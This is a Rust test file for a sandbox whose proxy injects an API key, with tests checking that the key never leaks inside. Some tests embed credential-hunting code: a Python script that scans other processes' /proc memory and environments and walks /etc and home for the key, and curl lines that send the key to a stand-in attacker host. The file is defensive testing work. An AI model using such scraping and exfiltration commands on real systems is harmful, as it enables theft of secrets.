//! The key that the proxy holds, and everywhere it must not be.

use crate::support::{Outcome, World, finish};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};

/// A simulated provider outside, which writes down every header that reaches it.
pub struct Provider {
    process: Child,
    pub address: String,
    pub certificate: PathBuf,
    record: PathBuf,
}

impl Provider {
    pub fn start(world: &World) -> Self {
        let (certificate, record) = (world.place().join("ca.pem"), world.place().join("record.jsonl"));
        let mut command = world.omni();
        command.args(["sim", "--json", "--ca-out"]).arg(&certificate).arg("--record").arg(&record);
        let mut process = command.stdin(Stdio::null()).stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(process.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let told: Value = serde_json::from_str(&line).unwrap();
        let address = told["listening"].as_str().unwrap().trim_start_matches("https://").to_owned();
        Self { process, address, certificate, record }
    }

    /// What arrived, as text and line by line.
    pub fn heard(&self) -> (String, Vec<Value>) {
        let text = std::fs::read_to_string(&self.record).unwrap_or_default();
        let lines = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        (text, lines)
    }
}

impl Drop for Provider {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// One key for one host, as a placeholder in one variable.
const PROFILE: &str = "\
name: keyed
command: sh
description: one key for one host
filesystem: { workspace: direct }
egress:
  - allow: '* api.anthropic.com/**'
  - allow: '* localhost/**'
  - allow: '* http://localhost/**'
secrets:
  - name: anthropic
    from: env:ANTHROPIC_API_KEY
    host: api.anthropic.com
    header: x-api-key
    placeholder: { env: ANTHROPIC_API_KEY, shape: anthropic }
";

/// A key that nothing else on this machine holds.
pub fn fresh_key() -> String {
    let mut random = [0; 24];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom").unwrap(), &mut random).unwrap();
    let hex: String = random.iter().map(|byte| format!("{byte:02x}")).collect();
    format!("sk-ant-api03-{hex}")
}

fn keyed(world: &World, provider: &Provider, key: &str, script: &str, argument: &str) -> Outcome {
    let profile = world.place().join("keyed.yaml");
    world.write(&profile, PROFILE);
    let to = |host: &str| format!("{host}:443:{}", provider.address);
    let (one, other) = (to("api.anthropic.com"), to("localhost"));
    let flags = [
        "--profile",
        profile.to_str().unwrap(),
        "--connect-to",
        &one,
        "--connect-to",
        &other,
        "--upstream-ca",
        provider.certificate.to_str().unwrap(),
    ];
    let mut command: Command = world.exec(&flags, &["sh", "-c", script, argument]);
    command.env("ANTHROPIC_API_KEY", key);
    finish(command, b"")
}

attack! {
    /// The provider hears the key, so the proxy has it; the harness's side of the wall does not.
    fn cannot_find_the_key_anywhere_inside(world) {
        let (provider, key) = (Provider::start(world), fresh_key());
        // The searcher gets its needles backwards, so that it does not find itself; its own memory is left out, a shell's
        // and a sleeper's, which began as it did, are in. Files: everything that is not the host's system, and /etc.
        let search = "
import json, os, re, sys
needles = {'key': sys.argv[1][::-1].encode(), 'placeholder': os.environ['ANTHROPIC_API_KEY'].encode()}
found = {name: set() for name in needles}
def look(where, data):
    for name, needle in needles.items():
        if needle in data: found[name].add(where)
looked = dict(memory=0, files=0)
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid(): continue
    for what in ('environ', 'cmdline'):
        try: look(what, open(f'/proc/{pid}/{what}', 'rb').read())
        except OSError: pass
    try:
        memory = open(f'/proc/{pid}/mem', 'rb', 0)
        maps = open(f'/proc/{pid}/maps').read()
    except OSError: continue
    for start, end in re.findall('(?m)^([0-9a-f]+)-([0-9a-f]+) r', maps):
        try:
            memory.seek(int(start, 16)); look('memory', memory.read(int(end, 16) - int(start, 16))); looked['memory'] += 1
        except (OSError, ValueError, OverflowError): pass
for top in ('/tmp', '/run', '/var', '/etc', '/dev/shm', os.environ['HOME'], os.getcwd()):
    for place, _, names in os.walk(top):
        for name in names:
            try:
                if os.path.isfile(os.path.join(place, name)):
                    look('file', open(os.path.join(place, name), 'rb').read()); looked['files'] += 1
            except OSError: pass
print(json.dumps({name: sorted(where) for name, where in found.items()} | looked))
";
        world.write(&world.workspace().join("search.py"), search);
        let backwards: String = key.chars().rev().collect();
        let script = "printf %s \"$ANTHROPIC_API_KEY\" > control; cat control - </dev/zero >/dev/null & \
            curl -s -o /dev/null -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/v1/models; \
            /usr/bin/python3 -I search.py \"$0\"; kill $!";
        let outcome = keyed(world, &provider, &key, script, &backwards);
        let found = outcome.json();
        assert_eq!(found["key"], json!([]), "{outcome:?}");
        assert_eq!(found["placeholder"], json!(["environ", "file", "memory"]), "the search finds what is there: {outcome:?}");
        assert!(found["memory"].as_u64() > Some(10) && found["files"].as_u64() > Some(100), "{found}");
        let (_, heard) = provider.heard();
        assert_eq!(heard.len(), 1, "{heard:?}");
        assert_eq!(heard[0]["headers"]["x-api-key"], key.as_str());
    }
}

attack! {
    fn the_records_of_omni_do_not_hold_the_key(world) {
        let (provider, key) = (Provider::start(world), fresh_key());
        let ask = "curl -s -o /dev/null -H \"x-api-key: $ANTHROPIC_API_KEY\" 'https://api.anthropic.com/v1/models?k='$ANTHROPIC_API_KEY";
        keyed(world, &provider, &key, ask, "");
        let search = |needle: &str| {
            let mut command = world.command("grep".as_ref());
            command.args(["-rlaF", needle]).arg(world.omni_home());
            finish(command, b"").text()
        };
        assert_ne!(search("api.anthropic.com"), "", "there are records, and they can be searched");
        assert_eq!(search(&key), "");
    }
}

attack! {
    /// A repository's configuration points the client elsewhere. That host may even be allowed; the key is bound to another.
    fn a_base_url_elsewhere_gets_no_key(world) {
        let (provider, key) = (Provider::start(world), fresh_key());
        let ask = "ask() { curl -s -o /dev/null -w '%{http_code} ' \"$@\"; }; \
            ask -H \"x-api-key: $ANTHROPIC_API_KEY\" https://localhost.omni-attack.example/v1/models; \
            ask -x http://10.77.0.1:3128 -H \"authorization: Bearer $ANTHROPIC_API_KEY\" https://localhost/v1/models; \
            ask -x http://10.77.0.1:3128 --data \"$ANTHROPIC_API_KEY\" https://localhost/v1/models; \
            ask -x http://10.77.0.1:3128 https://localhost/v1/models; \
            ask -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/v1/models";
        let outcome = keyed(world, &provider, &key, ask, "");
        let (text, heard) = provider.heard();
        let keys: Vec<_> = heard.iter().filter(|line| line.to_string().contains(&key)).collect();
        assert_eq!(keys.len(), 1, "{outcome:?} {text}");
        assert_eq!(keys[0]["host"], "api.anthropic.com");
        assert!(heard.iter().any(|line| line["host"] == "localhost"), "the other host was reached: {outcome:?} {text}");
    }
}

attack! {
    /// The proxy lets nobody look into it: not its memory, not its environment, and it can open nothing itself.
    fn the_proxy_is_closed_and_confined(world) {
        let (provider, key) = (Provider::start(world), fresh_key());
        let profile = world.place().join("keyed.yaml");
        world.write(&profile, PROFILE);
        let to = format!("api.anthropic.com:443:{}", provider.address);
        let flags = ["--profile", profile.to_str().unwrap(), "--connect-to", &to];
        let mut command = world.exec(&flags, &["sh", "-c", "echo ready; exec cat"]);
        command.env("ANTHROPIC_API_KEY", &key).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut [0; 6]).unwrap();
        let omni = child.id();
        let children = std::fs::read_to_string(format!("/proc/{omni}/task/{omni}/children")).unwrap();
        let title = |pid: &str| std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let proxy = children.split_whitespace().find(|pid| title(pid).trim_end_matches('\0') != "omni").unwrap();
        let look = "say([attempt(lambda: open(f'/proc/{pid}/{what}', 'rb').read(1)) for pid in arguments for what in ('environ', 'maps')])";
        let seen = world.probe_outside(look, &[proxy]);
        if world.who == crate::support::Who::Ordinary {
            assert_eq!(seen, json!(["EACCES", "EACCES"]), "not even its own user's other programs");
            assert_eq!(world.probe_outside(look, &[&omni.to_string()])[1], "ok");
        }
        let status = std::fs::read_to_string(format!("/proc/{proxy}/status")).unwrap();
        let has = |line: &str| status.lines().any(|found| found.split_whitespace().collect::<Vec<_>>().join(" ") == line);
        for line in ["CapEff: 0000000000000000", "CapPrm: 0000000000000000", "NoNewPrivs: 1", "Seccomp: 2"] {
            assert!(has(line), "{line}: {status}");
        }
        let limits = std::fs::read_to_string(format!("/proc/{proxy}/limits")).unwrap();
        let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
        assert_eq!(core.split_whitespace().collect::<Vec<_>>()[4..6], ["0", "0"], "{core}");
        assert_eq!(crate::support::collect(child, b"").code(), Some(0));
    }
}

/// A session whose secret is what a command prints.
fn commanded(world: &World, command: &str) -> Command {
    let profile = world.place().join("commanded.yaml");
    world.write(&profile, &PROFILE.replace("env:ANTHROPIC_API_KEY", &format!("'command:{command}'")));
    world.exec(&["--profile", profile.to_str().unwrap()], &["echo", "started"])
}

attack! {
    fn a_secret_that_cannot_be_had_is_the_reason_that_is_given(world) {
        let outcome = finish(commanded(world, "exit 3"), b"");
        assert_eq!(outcome.code(), Some(125), "{outcome:?}");
        assert!(outcome.stderr.contains("the command failed (exit status: 3)"), "{outcome:?}");
        assert!(outcome.stdout.is_empty(), "{outcome:?}");
    }
}

attack! {
    /// A command may wait for a person, who may think better of it.
    fn waiting_for_a_secret_can_be_called_off(world) {
        let (waits, pids) = (world.place().join("waits"), world.place().join("pid"));
        let made = Command::new("mkfifo").arg(&waits).status().unwrap();
        assert!(made.success());
        // It says who it is, and then waits to be read.
        let script = format!("echo $$ > {} && exec 9> {}", pids.display(), waits.display());
        world.give(&waits);
        let mut child = commanded(world, &script).stderr(Stdio::null()).spawn().unwrap();
        let pid = loop {
            match std::fs::read_to_string(&pids).ok().and_then(|text| text.trim().parse::<i32>().ok()) {
                Some(pid) => break pid,
                None => assert!(child.try_wait().unwrap().is_none(), "it ended before it waited"),
            }
        };
        let command = rustix::process::Pid::from_raw(pid).unwrap();
        let command = rustix::process::pidfd_open(command, rustix::process::PidfdFlags::empty()).unwrap();
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id().cast_signed()), nix::sys::signal::Signal::SIGINT)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(std::os::unix::process::ExitStatusExt::signal(&status), Some(libc::SIGINT), "{status:?}");
        let mut waits = [rustix::event::PollFd::new(&command, rustix::event::PollFlags::IN)];
        let patience = rustix::event::Timespec { tv_sec: 20, tv_nsec: 0 };
        assert_eq!(rustix::event::poll(&mut waits, Some(&patience)), Ok(1), "the command lives on");
    }
}
